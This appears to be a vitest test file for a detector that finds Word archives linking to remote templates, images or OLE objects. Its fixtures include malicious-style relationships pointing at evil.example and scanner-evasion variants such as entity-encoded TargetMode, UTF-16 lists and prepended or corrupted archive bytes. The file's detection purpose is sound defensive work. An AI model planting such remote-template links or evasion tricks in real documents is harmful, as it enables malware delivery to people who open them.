import { deflateRawSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { findRemotePart } from './find-remote-part'

const SETTINGS = 'word/_rels/settings.xml.rels'
const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

/** An archive as Word writes one. */
function archive(parts: Readonly<Record<string, string | Buffer>>, method = 8): Buffer {
  const bodies: Buffer[] = []
  const directory: Buffer[] = []
  let offset = 0
  for (const [name, content] of Object.entries(parts)) {
    const body = method === 8 ? deflateRawSync(content) : Buffer.from(content)
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(name.length, 26)
    const entry = Buffer.alloc(46)
    entry.writeUInt32LE(0x02014b50, 0)
    entry.writeUInt16LE(method, 10)
    entry.writeUInt32LE(body.length, 20)
    entry.writeUInt16LE(name.length, 28)
    entry.writeUInt32LE(offset, 42)
    bodies.push(local, Buffer.from(name), body)
    directory.push(entry, Buffer.from(name))
    offset += local.length + name.length + body.length
  }
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt32LE(Buffer.concat(directory).length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...bodies, ...directory, end])
}

const relation = (type: string, target: string, mode = 'External') =>
  `<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="${TYPE}/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`

describe('a Word file that fetches something', () => {
  it.each([
    ['a template', relation('attachedTemplate', 'https://evil.example/a.dotm')],
    ['a template on a share', relation('attachedTemplate', 'file://evil.example/share/a.dotm')],
    ['a picture', relation('image', 'https://evil.example/a.png')],
    ['an object', relation('oleObject', 'https://evil.example/a')],
    ['a hidden template', relation('attachedTemplate', 'https://evil.example/a', 'Externa&#108;')],
    [
      'a template under a prefix',
      relation('attachedTemplate', 'https://evil.example/a').replace('<Relationship ', '<r:Relationship '),
    ],
    ['a list in UTF-16', Buffer.from(`\uFEFF${relation('image', 'https://evil.example/a')}`, 'utf16le')],
    ['a list without an end', Buffer.alloc(5_000_000, ' ')],
  ])('%s', (_what, list) => {
    expect(findRemotePart(archive({ 'word/document.xml': '<w/>', [SETTINGS]: list }))).toBe(SETTINGS)
    expect(findRemotePart(archive({ [SETTINGS]: list }, 0))).toBe(SETTINGS)
  })

  it('also where other bytes are before the archive, as many as its numbers leave out or count', () => {
    const file = archive({ [SETTINGS]: relation('image', 'https://evil.example/a') })
    const before = Buffer.from('PK\x03\x04 another archive')
    expect(findRemotePart(Buffer.concat([before, file]))).toBe(SETTINGS)
    const counted = Buffer.from(file)
    const end = file.length - 22
    const entry = file.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]))
    for (const at of [end + 16, entry + 42]) counted.writeUInt32LE(file.readUInt32LE(at) + before.length, at)
    expect(findRemotePart(Buffer.concat([before, counted]))).toBe(SETTINGS)
  })

  it('also where the list of parts does not unpack', () => {
    const file = archive({ [SETTINGS]: relation('image', 'https://evil.example/a') })
    file.fill(0xff, 30 + SETTINGS.length, 30 + SETTINGS.length + 20)
    expect(findRemotePart(file)).toBe(SETTINGS)
  })
})

it.each([
  ['a link', relation('hyperlink', 'https://clinic.example')],
  ['a template of the writer’s own', relation('attachedTemplate', 'file:///C:\\Users\\Ada\\letter.dotx')],
  ['a picture inside', relation('image', 'media/image1.png', 'Internal')],
])('%s is harmless', (_what, list) => {
  expect(findRemotePart(archive({ 'word/_rels/document.xml.rels': list }))).toBeUndefined()
})

it('a file that is no archive has no such list', () => {
  expect(findRemotePart(Buffer.from('PK\x03\x04...word/document.xml'))).toBeUndefined()
})
